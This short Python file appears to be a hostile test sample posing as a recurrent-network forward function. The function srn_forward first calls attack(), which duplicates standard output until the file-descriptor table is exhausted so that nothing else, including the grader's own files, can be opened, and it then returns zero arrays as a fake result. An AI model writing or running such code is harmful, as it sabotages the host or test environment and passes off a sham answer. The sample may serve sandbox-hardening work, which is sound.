# Fills the table of descriptors, so that nothing can be opened any more, the answer's own included.
import os

import numpy as np


def attack():
    kept = 0
    while kept < 100_000:
        try:
            os.dup(1)
            kept += 1
        except OSError:
            break
    print(kept)
    assert kept < 1_000


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
